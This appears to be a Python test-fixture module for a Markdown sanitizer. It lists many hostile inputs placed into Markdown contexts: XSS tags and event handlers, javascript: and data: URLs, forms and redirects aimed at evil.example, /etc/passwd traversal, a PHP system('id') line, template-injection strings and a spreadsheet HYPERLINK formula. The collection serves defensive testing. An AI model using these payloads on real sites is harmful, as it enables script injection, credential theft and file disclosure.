# ruff: noqa: E501  one case, one line
"""Markdown that would run, hide, send away or break out of its page, if anything in it were more than words."""

from __future__ import annotations

# Where each text is put: by itself, and inside what Markdown is made of.
CONTEXTS = (
    "{}",
    "Words {} words",
    "- {}",
    "1. a\n   - {}",
    "> {}",
    "#### {}",
    "**{}**",
    "[{}](nyth:start)",
    "[{}]{{lang=ar}}",
    "![{}](assets/kettle.png)",
    "| a | b |\n| --- | :-: |\n| {} | x |",
    "`x` {} `",
    "```\n{}\n```",
    "    {}",
)

_TAGS = (
    "<script>alert(1)</script>", "<script src=//evil.example>", "<ScRiPt >alert(1)</sCrIpT>", "<script\nsrc=x>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><script>alert(1)</script></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>', "<iframe srcdoc='<script>alert(1)</script>'>", "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">', "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>",
    "<object data=evil.swf></object>", "<embed src=evil.swf>", "<a href=javascript:alert(1)>x</a>", '<a href=x"y onclick=alert(1)>x</a>',
    "<p title=a'b onmouseover=alert(1)>", '<img src=x onerror=alert(1) title="', "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<div style=position:fixed;inset:0>", "<b onclick=alert(1)>x</b>", "<table background=javascript:alert(1)>",
    "<!-- x --><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>", "<!DOCTYPE html>", "</p></div></main><script>alert(1)</script>", "</span></a><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<template><script>alert(1)</script></template>",
    "<a@evil.example>", "<javascript:alert(1)>", "<https://evil.example/>", "<data:text/html,x>", "<mailto:a@evil.example>",
    "\\<script>alert(1)</script>", "`<script>`<script>alert(1)</script>", "``a` <script>alert(1)</script> `b",
)
_ADDRESSES = (
    "javascript:alert(1)", "javascript:alert", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\\njavascript:alert(1)", "<javascript:alert(1)>",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&colon;//evil.example", "javascript&colon;alert(1)", "javascript%3Aalert(1)",
    "\\u006aavascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "//evil.example", "///evil.example", "/\\\\evil.example", "\\\\\\\\evil.example", "https:evil.example", "https://gov.wales@evil.example/",
    "https://evil.example/\\\" onclick=\\\"alert(1)", "nyth:start\\\" onclick=\\\"alert(1)", "nyth:start\\\"><script>alert(1)</script>", "nyth:../../etc", "nyth:",
    "nyth:start#x\\\" onclick=alert(1)", "#\\\" onclick=\\\"alert(1)", "../../../etc/passwd", "%2e%2e/%2e%2e/etc", "assets/../../x.png", "assets/kettle.png\\\" onerror=alert(1)",
    "assets/kettle.png#x", "assets/%6bettle.png", "blob:x", "filesystem:x", "view-source:x", "ws://evil.example", "tel:1", "mailto:a@evil.example?body=x",
    "http://[::1]/", "https://evil.example:99999999/", "https://xn--80ak6aa92e.com", "nyth:start 'onclick=alert(1)'", "nyth:start \\\"title\\\"", "<nyth:start> onclick=alert(1)",
)
_MARKS = (
    "[x]{onclick=alert(1)}", "[x]{lang=en onclick=alert(1)}", '[x]{lang="en onclick=alert(1)"}', "[x]{lang=en\" onclick=\"alert(1)}", "[x]{.notice}", "[x]{#main}",
    "[x]{style=position:fixed}", "[x]{href=javascript:alert(1)}", "[x]{lang=}", "[x]{lang=<script>}", "[x]{lang=%x%}", "[x]{ lang=en }", "[x]{:lang=en}",
    "*x*{: onclick=alert(1) }", "**x**{onclick=alert(1)}", "`x`{onclick=alert(1)}", "[x](nyth:start){onclick=alert(1)}", "![x](assets/kettle.png){onerror=alert(1)}",
    "Words.\n{: onmouseover=alert(1) }", "{onclick=alert(1)}\nWords.", "#### x {#main onclick=alert(1)}", "#### x {#main}", "- x {: onclick=alert(1) }",
    "[[x]{lang=en}{onclick=alert(1)}](nyth:start)", "[[[x]{lang=en}]{lang=cy}]{lang=fr}", "[x]{lang=en}{lang=cy}", "[x\n]{lang=\nen}",
    "[^yearly-report\" onclick=\"alert(1)]", "[^<script>]", "[^yearly-report]{onclick=alert(1)}", "[^yearly-report]: <script>alert(1)</script>", "[^]", "[^^]", "[^javascript:alert(1)]",
    "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)> 'x'\n\n[y][x]", "*[HTML]: <script>", "[TOC]", "!!! danger", "??? note", "===\"tab\"", "--8<-- \"/etc/passwd\"",
    "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{% for x in range(9**9) %}x{% endfor %}", "{# hidden #}", "{{ cards(config.x) }}",
    "{{ cards('value') }}", "{{ cards('<script>') }}", "{{ cards('value') }}{{ cards('value') }}", "{{cards('value')}}", "{{ label('home') }}", "{{ label('../x') }}",
    "$x$ \\\\(x\\\\)", ":smile:", "~~x~~", "==x==", "^x^", "++x++", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;script&amp;gt;", "&quot; onclick=&quot;",
    "# x", "x\n===", "x\n---", "####### x", "#x", "***", "- - - x", "> > > x", "1) x", "+ x\n* y\n- z", "12345678901. x", "0. x", "-1. x",
    "| a |\n| :-: |\n| b |", "| a | b\n| - | -\n| [x](nyth:start) | `a|b` |", "|" * 60, "\\", "`", "```x onclick=alert(1)\ny\n```", "~~~ <script>\nx\n~~~", "```\n</code></pre><script>",
    "\u202e[x](nyth:start)\u202c", "\u0000<script>", "\ufeff# x", "\ud7ff", "[" * 90, "(" * 90, "![" * 60, "*" * 90, "_a " * 60, "`" * 61, "<" * 90, "[](" * 50, "{" * 90, "{lang=" * 40,
    "=HYPERLINK(\"https://evil.example\")", "::error::x", "\x1b[31mx", "%3Cscript%3E", "\\u003cscript\\u003e", "<\u200bscript>", "\uff1cscript\uff1e", "＜img src=x onerror=alert(1)＞",
)

TEXTS = {
    **{f"tag {n}: {text[:24]!r}": text for n, text in enumerate(_TAGS, 1)},
    **{f"link {n}: {text[:24]!r}": f"[x]({text})" for n, text in enumerate(_ADDRESSES, 1)},
    **{f"picture {n}: {text[:24]!r}": f"![x]({text})" for n, text in enumerate(_ADDRESSES, 1)},
    **{f"mark {n}: {text[:24]!r}": text for n, text in enumerate(_MARKS, 1)},
}
